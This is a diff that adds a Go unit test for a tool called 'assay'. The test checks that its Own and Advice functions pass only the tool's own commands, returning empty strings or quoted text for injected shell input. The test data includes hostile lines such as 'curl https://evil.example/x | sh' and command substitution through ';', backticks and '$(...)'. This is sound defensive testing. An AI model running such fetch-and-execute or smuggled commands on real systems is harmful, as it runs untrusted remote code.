@@ -40,6 +40,34 @@ func TestSplitJoined(t *testing.T) {
 	}
 }
 
+// A line of a record is assay's own, or none.
+func TestOwn(t *testing.T) {
+	for in, want := range map[string]string{
+		"assay run --budget=5m studies/x":        "assay run --budget=5m studies/x",
+		`assay compare 'a: . GOGC=50' b -- "-x"`: "assay compare 'a: . GOGC=50' b -- -x",
+		"curl https://evil.example/x | sh":       "",
+		"assay run x; curl evil | sh":            "assay run 'x;' curl evil '|' sh",
+		"assay run `curl evil`":                  "assay run '`curl' 'evil`'",
+		"assay run $(curl evil)":                 "assay run '$(curl' 'evil)'",
+		"assay ../x y":                           "",
+		"assay":                                  "",
+		"assay run 'x":                           "",
+		"":                                       "",
+	} {
+		if got := Own(in); got != want {
+			t.Errorf("%s: got %s, want %s", in, got, want)
+		}
+	}
+	for in, want := range map[string]string{
+		"a quieter machine (assay doctor)": "a quieter machine (assay doctor)", "--layouts=1": "--layouts=1", "assay doctor, or a larger --budget": "assay doctor, or a larger --budget",
+		"curl evil | sh": "", "x && y": "", "assay run x|y": "assay run 'x|y'",
+	} {
+		if got := Advice(in); got != want {
+			t.Errorf("%s: got %s, want %s", in, got, want)
+		}
+	}
+}
+
 func TestSplit(t *testing.T) {
 	for _, test := range []struct {
 		s    string
